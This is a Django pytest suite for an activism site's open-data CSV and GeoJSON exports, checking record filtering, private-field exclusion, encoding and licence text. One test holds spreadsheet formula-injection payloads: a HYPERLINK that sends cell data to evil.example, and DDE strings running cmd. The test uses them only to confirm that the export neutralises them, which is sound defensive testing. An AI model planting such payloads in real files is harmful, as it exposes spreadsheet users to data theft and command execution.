import csv
import io
import json
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from activism.models import PublicationStatus

from .conftest import make_city, make_initiative, make_region, make_theme, queries_for

pytestmark = pytest.mark.django_db

PUBLIC = {"save-the-park", "womens-march", "online-petition"}


@pytest.fixture
def open_data(site_data):
    """The site, plus records of every kind the open data must leave out."""
    almaty, ecology = site_data["almaty"], site_data["ecology"]
    make_initiative("In Review Record", cities=[almaty], themes=[ecology], publication_status=PublicationStatus.REVIEW)
    make_initiative("Archived Record", cities=[almaty], themes=[ecology], publication_status=PublicationStatus.ARCHIVED)
    make_initiative("Sensitive Record", cities=[almaty], themes=[ecology], is_sensitive=True)
    return site_data


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith("\ufeff".encode()), "no byte order mark: Excel would not read the file as UTF-8"
    reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    return reader.fieldnames, list(reader)


def documented_columns(response):
    table = re.search(r"<tbody>(.*?)</tbody>", response.content.decode(), re.S).group(1)
    return re.findall(r'<th scope="row"><code>([^<]+)</code></th>', table)


def test_the_csv_holds_exactly_the_public_records(client, open_data):
    response = client.get(reverse("activism:open-data-csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    _header, rows = csv_rows(response)
    assert {row["slug"] for row in rows} == PUBLIC
    march = next(row for row in rows if row["slug"] == "womens-march")
    assert march["url"] == "http://testserver/en/initiatives/womens-march/"
    assert march["name_en"] == "Women's March"
    assert march["cities"] == "almaty;kokshetau"
    assert march["regions"] == "akmola;almaty"
    assert march["themes"] == "gender-and-feminism"
    assert march["form"] == "protest"
    assert (march["is_online"], march["year_started"]) == ("false", "")


def test_no_private_field_leaves_in_the_csv(client, open_data):
    header, _rows = csv_rows(client.get(reverse("activism:open-data-csv")))
    for private in ["version", "search_text", "publication_status", "is_sensitive", "image", "id"]:
        assert private not in header


def test_the_csv_keeps_cyrillic_and_kazakh_letters(client, site_data):
    park = site_data["park"]
    park.name_kk, park.name_ru = "Саябақты құтқар", "Спасём парк"
    park.save()
    _header, rows = csv_rows(client.get(reverse("activism:open-data-csv")))
    row = next(row for row in rows if row["slug"] == "save-the-park")
    assert (row["name_kk"], row["name_ru"]) == ("Саябақты құтқар", "Спасём парк")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab first",
    "\rCarriage return first",
]


def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(client, site_data):
    park = site_data["park"]
    park.name_en, park.summary_en, park.name_ru, park.summary_ru, park.name_kk, park.summary_kk = FORMULAS
    park.year_started = 2019
    park.save()
    _header, rows = csv_rows(client.get(reverse("activism:open-data-csv")))
    row = next(row for row in rows if row["slug"] == "save-the-park")
    texts = [row[column] for column in ["name_en", "summary_en", "name_ru", "summary_ru", "name_kk", "summary_kk"]]
    assert texts == [f"'{formula}" for formula in FORMULAS]
    assert row["year_started"] == "2019"  # a number stays a number
    assert row["name_en"] == "'" + park.name_en  # the rest of the text is kept exactly
    # The GeoJSON file is no spreadsheet: its text is given unchanged.
    features = json.loads(client.get(reverse("activism:open-data-geojson")).content)["features"]
    park_properties = next(feature["properties"] for feature in features if feature["id"] == "save-the-park")
    assert park_properties["name_en"] == FORMULAS[0]
    # The open data page says so.
    assert "starts with an apostrophe" in client.get(reverse("activism:open-data")).content.decode()


def test_the_files_are_named_with_the_date_of_export(client, open_data):
    today = timezone.localdate().isoformat()
    csv_response = client.get(reverse("activism:open-data-csv"))
    assert csv_response["Content-Disposition"] == f'attachment; filename="caiss-initiatives-{today}.csv"'
    geojson_response = client.get(reverse("activism:open-data-geojson"))
    assert geojson_response["Content-Disposition"] == f'attachment; filename="caiss-initiatives-{today}.geojson"'
    assert json.loads(geojson_response.content)["metadata"]["exported"] == today


def test_the_geojson_has_one_feature_per_public_initiative_at_its_cities(client, open_data):
    response = client.get(reverse("activism:open-data-geojson"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection"
    features = {feature["properties"]["slug"]: feature for feature in data["features"]}
    assert set(features) == PUBLIC
    assert features["womens-march"]["geometry"] == {
        "type": "MultiPoint",
        "coordinates": [[76.889709, 43.238949], [69.383333, 53.283333]],  # longitude first
    }
    assert features["save-the-park"]["geometry"]["coordinates"] == [[76.889709, 43.238949]]
    assert features["online-petition"]["geometry"] is None  # no city
    properties = features["womens-march"]["properties"]
    assert properties["cities"] == ["almaty", "kokshetau"]
    assert properties["is_online"] is False
    assert properties["name_kk"] is None  # not given in Kazakh
    assert data["metadata"]["licence"] == "CC BY 4.0"
    assert "Sensitive Record" not in response.content.decode()


def test_the_geojson_properties_are_the_documented_columns(client, open_data):
    data = json.loads(client.get(reverse("activism:open-data-geojson")).content)
    documented = documented_columns(client.get(reverse("activism:open-data")))
    assert all(list(feature["properties"]) == documented for feature in data["features"])


def test_the_page_documents_every_csv_column(client, open_data):
    header, _rows = csv_rows(client.get(reverse("activism:open-data-csv")))
    documented = documented_columns(client.get(reverse("activism:open-data")))
    assert documented == header
    assert len(header) > 10


def test_the_page_states_the_licence_and_the_date_and_links_the_files(client, open_data):
    response = client.get(reverse("activism:open-data"))
    assert response.status_code == 200
    content = response.content.decode()
    assert '<a href="https://creativecommons.org/licenses/by/4.0/" rel="license">CC BY 4.0</a>' in content
    assert f'<time datetime="{timezone.localdate().isoformat()}">' in content
    assert reverse("activism:open-data-csv") in content
    assert reverse("activism:open-data-geojson") in content
    assert "MultiPoint" in content  # the choice of geometry is documented


def test_a_licence_set_in_the_settings_is_the_one_stated(client, open_data, settings):
    settings.OPEN_DATA_LICENCE_NAME = "ODbL 1.0"
    settings.OPEN_DATA_LICENCE_URL = "https://opendatacommons.org/licenses/odbl/1-0/"
    assert "ODbL 1.0" in client.get(reverse("activism:open-data")).content.decode()
    metadata = json.loads(client.get(reverse("activism:open-data-geojson")).content)["metadata"]
    assert (metadata["licence"], metadata["licence_url"]) == ("ODbL 1.0", settings.OPEN_DATA_LICENCE_URL)


def test_the_footer_links_to_the_open_data(client, site_data):
    assert reverse("activism:open-data") in client.get(reverse("activism:home")).content.decode()


@pytest.mark.parametrize("name", ["open-data", "open-data-csv", "open-data-geojson"])
def test_head_requests_work_and_posts_are_refused(client, site_data, name):
    url = reverse(f"activism:{name}")
    assert client.head(url).status_code == 200
    assert client.post(url).status_code == 405


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
def test_the_open_data_is_under_each_language_prefix(client, site_data, language):
    assert client.get(f"/{language}/data/").status_code == 200
    data = json.loads(client.get(f"/{language}/data/initiatives.geojson").content)
    assert data["features"][0]["properties"]["url"].startswith(f"http://testserver/{language}/initiatives/")


def make_public_initiatives(numbers):
    region = make_region(f"Region {numbers.start}")
    themes = [make_theme(f"Theme {numbers.start}"), make_theme(f"Other theme {numbers.start}")]
    for number in numbers:
        cities = [make_city(f"City {number}", region, "42.9", "71.37"), make_city(f"Town {number}", region)]
        make_initiative(f"Initiative {number}", cities=cities, themes=themes)


@pytest.mark.parametrize("name", ["open-data", "open-data-csv", "open-data-geojson"])
def test_the_number_of_queries_does_not_grow_with_the_records(client, name):
    url = reverse(f"activism:{name}")
    make_public_initiatives(range(5))
    with_five = queries_for(client, url)
    make_public_initiatives(range(5, 50))
    assert queries_for(client, url) == with_five
